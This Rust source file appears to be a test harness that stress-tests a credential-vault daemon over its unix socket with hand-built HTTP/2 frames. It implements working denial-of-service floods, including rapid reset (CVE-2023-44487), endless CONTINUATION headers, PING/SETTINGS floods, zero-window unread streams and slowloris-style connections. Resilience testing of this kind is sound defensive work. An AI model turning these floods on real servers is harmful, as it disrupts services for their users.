//! HTTP/2 by hand, as whoever means no good speaks it: frames in any order, over the unix socket of agents, where no TLS
//! stands before it.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::UnixStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;

/// How long a flooder rests: the load that is measured is the daemon's, not the test's own.
const BREATH: Duration = Duration::from_millis(3);

/// When a flood is over, and how much it has sent.
#[derive(Clone, Debug, Default)]
pub(crate) struct Tap {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
}

impl Tap {
    pub(crate) fn runs(&self) -> bool {
        !self.stop.load(Ordering::Acquire)
    }

    pub(crate) fn close(&self) {
        self.stop.store(true, Ordering::Release);
    }

    pub(crate) fn count(&self, units: u64) {
        self.sent.fetch_add(units, Ordering::Relaxed);
    }

    pub(crate) fn counted(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = u32::try_from(payload.len()).unwrap().to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A field of a header list, spelt out (RFC 7541, 6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        if text.len() < 127 {
            bytes.push(text.len() as u8);
        } else {
            let mut rest = text.len() - 127;
            bytes.push(127);
            while rest >= 128 {
                bytes.push((rest % 128) as u8 | 128);
                rest /= 128;
            }
            bytes.push(rest as u8);
        }
        bytes.extend(text.as_bytes());
    }
    bytes
}

fn request() -> Vec<u8> {
    request_for("/nockvault.v1.AgentService/RequestCredential")
}

fn request_for(path: &str) -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "vault"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    fields.iter().flat_map(|(name, value)| field(name, value)).collect()
}

/// A connection whose answers are read and dropped. None where it is turned away.
async fn open(socket: &Path) -> Option<UnixStream> {
    let mut stream = UnixStream::connect(socket).await.ok()?;
    stream.write_all(PREFACE).await.ok()?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await.ok()?;
    Some(stream)
}

/// Sends what `more` gives, over one connection after the other, and reads whatever comes back.
async fn pour(socket: &Path, tap: &Tap, mut more: impl FnMut(u32) -> Vec<u8>) {
    while tap.runs() {
        let Some(stream) = open(socket).await else {
            tokio::time::sleep(Duration::from_millis(20)).await;
            continue;
        };
        let (mut read, mut write) = stream.into_split();
        let sink = tokio::spawn(async move {
            let mut buffer = [0; 4096];
            while matches!(read.read(&mut buffer).await, Ok(1..)) {}
        });
        let mut turn = 0;
        while tap.runs() && !sink.is_finished() {
            let sent = tokio::time::timeout(Duration::from_millis(200), write.write_all(&more(turn))).await;
            match sent {
                Ok(Ok(())) => tap.count(1),
                // It is closed, or nobody reads on.
                Ok(Err(_)) | Err(_) => break,
            }
            turn += 1;
            tokio::time::sleep(BREATH).await;
        }
        sink.abort();
    }
}

/// Opens a stream and takes it back at once, for ever (CVE-2023-44487).
pub(crate) async fn rapid_reset(socket: &Path, tap: &Tap) {
    let request = request();
    pour(socket, tap, |turn| {
        let mut bytes = Vec::new();
        for more in 0..32 {
            let stream = 1 + 2 * (turn * 32 + more);
            bytes.extend(frame(HEADERS, END_HEADERS, stream, &request));
            bytes.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
        }
        bytes
    })
    .await;
}

/// Opens streams and ends none; each has a message of which one byte came.
pub(crate) async fn many_streams(socket: &Path, tap: &Tap) {
    let request = request();
    pour(socket, tap, |turn| {
        let stream = 1 + 2 * turn;
        [frame(HEADERS, END_HEADERS, stream, &request), frame(DATA, 0, stream, &[0])].concat()
    })
    .await;
}

/// A list of headers without end (RUSTSEC-2024-0332).
pub(crate) async fn endless_headers(socket: &Path, tap: &Tap) {
    let (begin, more) = (request(), field("x-nothing", &"a".repeat(16_000)));
    pour(socket, tap, |turn| match turn {
        0 => frame(HEADERS, 0, 1, &begin),
        _ => frame(CONTINUATION, 0, 1, &more),
    })
    .await;
}

/// Lists of headers that are too long, each whole.
pub(crate) async fn long_headers(socket: &Path, tap: &Tap) {
    let request = [request(), field("x-nothing", &"a".repeat(15_000))].concat();
    let more = field("x-more", &"b".repeat(15_000));
    pour(socket, tap, |turn| {
        let stream = 1 + 2 * turn;
        [frame(HEADERS, 0, stream, &request), frame(CONTINUATION, END_HEADERS, stream, &more)].concat()
    })
    .await;
}

/// Settings and pings, each of which asks for an answer.
pub(crate) async fn pings(socket: &Path, tap: &Tap) {
    pour(socket, tap, |turn| {
        let (ping, settings) = (frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, turn as u8]));
        [ping, settings].concat().repeat(32)
    })
    .await;
}

/// How many streams a connection may have at once.
pub(crate) const STREAMS: u32 = 128;

/// What anyone may ask: the path, its message, and whether more messages may follow.
const PUBLIC: [(&str, &[u8], bool); 4] = [
    ("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", b"\x22\x19nockvault.v1.AgentService", true),
    ("/grpc.health.v1.Health/Watch", b"", false),
    ("/grpc.health.v1.Health/Check", b"", false),
    ("/nockvault.v1.AgentService/DescribeVault", b"\x0a\x20a challenge of thirty-two bytes!", false),
];

/// A connection full of requests of the kind of this number that anyone may make, of which no answer is ever taken.
/// Ends when the daemon ends it.
pub(crate) async fn unread(socket: &Path, number: usize, tap: &Tap) {
    let (path, message, more) = PUBLIC[number % PUBLIC.len()];
    let request = request_for(path);
    let message = [&[0, 0, 0, 0, message.len() as u8], message].concat();
    let mut stream = UnixStream::connect(socket).await.unwrap();
    // The window of each stream is empty (RFC 9113, 6.5.2).
    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])].concat();
    for turn in 0..STREAMS {
        let stream = 1 + 2 * turn;
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &request));
        let (data, flags) = if more { (message.repeat(4), 0) } else { (message.clone(), END_STREAM) };
        bytes.extend(frame(DATA, flags, stream, &data));
    }
    stream.write_all(&bytes).await.unwrap();
    tap.count(STREAMS.into());
    let mut answers = [0; 4096];
    while matches!(stream.read(&mut answers).await, Ok(1..)) {}
}

/// As many connections as are to be had, each of which begins, and then says a byte now and then.
pub(crate) async fn slow(socket: &Path, tap: &Tap) {
    let all = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(HEADERS, END_HEADERS, 1, &request())].concat();
    let mut held: Vec<(UnixStream, usize)> = Vec::new();
    while tap.runs() {
        if held.len() < 400
            && let Ok(stream) = UnixStream::connect(socket).await
        {
            held.push((stream, 0));
            tap.count(1);
        }
        for (stream, at) in &mut held {
            if *at < all.len() && stream.try_write(&all[*at..=*at]).is_ok() {
                *at += 1;
            }
        }
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
}
